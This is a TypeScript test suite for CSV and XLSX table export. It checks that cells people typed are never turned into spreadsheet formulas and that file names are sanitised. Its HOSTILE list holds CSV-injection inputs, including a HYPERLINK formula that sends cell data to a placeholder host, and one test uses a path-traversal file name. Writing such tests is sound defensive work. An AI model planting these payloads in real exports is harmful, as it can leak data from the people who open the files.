/** Tables as files: what goes in comes out again in other programs' hands, and nothing that people wrote is a formula. */
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { unzipSync } from "fflate";
import { readSheet } from "read-excel-file/node";
import { describe, expect, test } from "vitest";
import { type Cell, say, type Table } from "../../src/card.ts";
import { fileName } from "../../src/report/file-name.ts";
import { tableFiles, writeCsv, writeXlsx } from "../../src/report/tables.ts";
import { createWords } from "../../src/words/say.ts";

const words = createWords({ "zh-CN": {}, en: {} }, "Asia/Shanghai");
const TITLE = say("stats.orders");
const COLUMNS: Table["columns"] = [
  { title: "地区", kind: "text" },
  { title: "问题", kind: "number" },
  { title: TITLE, kind: "percent" },
  { title: "截止", kind: "day" },
];
const tableOf = (...rows: Cell[][]): Table => ({ name: "各地区情况", columns: COLUMNS, rows, format: "both" });
const csv = (table: Table, locale: "zh-CN" | "en" = "zh-CN") => Buffer.from(writeCsv(table, words, locale)).toString();
const cells = (text: string): string[][] => parse(text, { bom: true, record_delimiter: "\r\n" });
const sheet = async (table: Table) => readSheet(Buffer.from(await writeXlsx(table, words, "zh-CN")));
const xml = async (table: Table) => {
  const parts = unzipSync(await writeXlsx(table, words, "zh-CN"));
  return new TextDecoder().decode(parts["xl/worksheets/sheet1.xml"]);
};
const HOSTILE = [
  "=1+1",
  "+86 28 1234",
  "-2+3",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "＝1+1",
  "－2",
  "＠甲",
  '=HYPERLINK("http://x/?"&A1,"点此")',
  "\u0000=1+1",
];

describe("CSV", () => {
  test("is what spreadsheets take: a mark, CRLF, quotes where needed, figures as figures", () => {
    const text = csv(
      tableOf(['甲市, "东"', 12, 0.92345, "2026-11-24"], ["乙市\n北", -3.5, 1, null], ["丙", null, 0, "待定"]),
    );
    expect(text.startsWith("\ufeff")).toBe(true);
    expect(text.split("\r\n")).toEqual([
      `\ufeff地区,问题,${words.say(TITLE, "zh-CN")},截止`,
      '"甲市, ""东""",12,92.35%,2026-11-24',
      '"乙市\n北",-3.5,100.00%,',
      "丙,,0.00%,待定",
      "",
    ]);
  });

  test("negative figures stay figures; the same written by a person does not", () => {
    expect(cells(csv(tableOf([say("none"), -5, null, null], ["-5", "-5", "-5", "-5"]))).slice(1)).toEqual([
      ["无", "-5", "", ""],
      ["'-5", "'-5", "'-5", "'-5"],
    ]);
  });

  test.each(HOSTILE)("%j is no formula", (text) => {
    for (const cell of cells(csv(tableOf([text, text, text, text])))[1] ?? []) expect(cell).toMatch(/^'/);
    const titled = { ...tableOf(), columns: [{ title: text, kind: "text" as const }, ...COLUMNS] };
    expect(cells(csv(titled))[0]?.[0]).toMatch(/^'/);
  });

  test("whatever people wrote comes back the same but for the quote, and no cell begins like a formula", () => {
    const written = fc.string({ unit: "grapheme", maxLength: 20 });
    const dangerous = fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", '"', ",", "'", "＝", " ");
    const cell = fc.tuple(dangerous, written).map(([first, rest]) => first + rest);
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, written), { minLength: 1, maxLength: 8 }), (pairs) => {
        const table: Table = {
          ...tableOf(...pairs.map(([a, b]) => [a, b])),
          columns: [
            { title: "甲", kind: "text" },
            { title: "乙", kind: "text" },
          ],
        };
        const read = cells(csv(table)).slice(1);
        expect(read.length).toBe(pairs.length);
        read.flat().forEach((got, i) => {
          expect(got).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
          const given = pairs.flat()[i] ?? "";
          expect([given, `'${given}`]).toContain(got);
        });
      }),
    );
  });

  test("is said in the channel's language", () => {
    expect(cells(csv(tableOf(), "en"))[0]?.[2]).toBe(words.say(TITLE, "en"));
  });
});

describe("XLSX", () => {
  test("texts, figures, shares and days come back as what they are", async () => {
    const rows = await sheet(tableOf(["甲市", 12, 0.92345, "2026-11-24"], ["0051", -3.5, null, "待定"]));
    expect(rows[0]).toEqual(["地区", "问题", words.say(TITLE, "zh-CN"), "截止"]);
    expect(rows[1]).toEqual(["甲市", 12, 0.92345, new Date("2026-11-24T00:00:00Z")]);
    expect(rows[2]).toEqual(["0051", -3.5, null, "待定"]);
  });

  test("holds no formula, whatever people wrote, and gives it back unchanged", async () => {
    const table = tableOf(...HOSTILE.map((text) => [text, text, text, text]));
    expect(await xml(table)).not.toMatch(/<f[\s>]/);
    // The reader trims, and a workbook has no NUL
    const bare = (text: unknown) => String(text).replace("\u0000", "").trim();
    expect((await sheet(table)).slice(1).map((row) => row.map(bare))).toEqual(
      HOSTILE.map((text) => Array.from({ length: 4 }, () => bare(text))),
    );
  });

  test("any text makes a file that can be read again", async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: "binary", maxLength: 40 }), async (text) => {
        const rows = await sheet(tableOf([`甲${text}`, 1, null, null], ["丙", 2, null, null]));
        expect(rows.map(([, n]) => n)).toEqual(["问题", 1, 2]);
      }),
      { numRuns: 40 },
    );
  });

  test("days of no calendar and figures of no size do not break it", async () => {
    const rows = await sheet(
      tableOf(["甲", Number.NaN, Number.POSITIVE_INFINITY, "2026-02-30"], ["长".repeat(40_000), 1, 1, "1899-01-01"]),
    );
    expect(rows[1]).toEqual(["甲", null, null, "2026-02-30"]);
    expect(String(rows[2]?.[0]).length).toBe(32_767);
    expect(rows[2]?.[3]).toBe("1899-01-01");
  });
});

test("a table goes out in the formats it asks for, under a name that every system takes", async () => {
  const names = async (table: Table) => (await tableFiles(table, words, "zh-CN")).map(({ name }) => name);
  expect(await names(tableOf())).toEqual(["各地区情况.xlsx", "各地区情况.csv"]);
  expect(await names({ ...tableOf(), format: "csv" })).toEqual(["各地区情况.csv"]);
  expect(await names({ ...tableOf(), format: "xlsx", name: "../甲/乙: [丙]?" })).toEqual(["_甲_乙_ [丙]_.xlsx"]);
});

test("a file's name leads nowhere and fits", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary", maxLength: 200 }), (text) => {
      const name = fileName(text);
      expect(name).not.toMatch(/[/\\:*?"<>|\p{Cc}]|^\.|^\s|\s$/u);
      expect(name).not.toBe("");
      expect(Buffer.byteLength(name)).toBeLessThanOrEqual(4 * 80);
    }),
  );
});
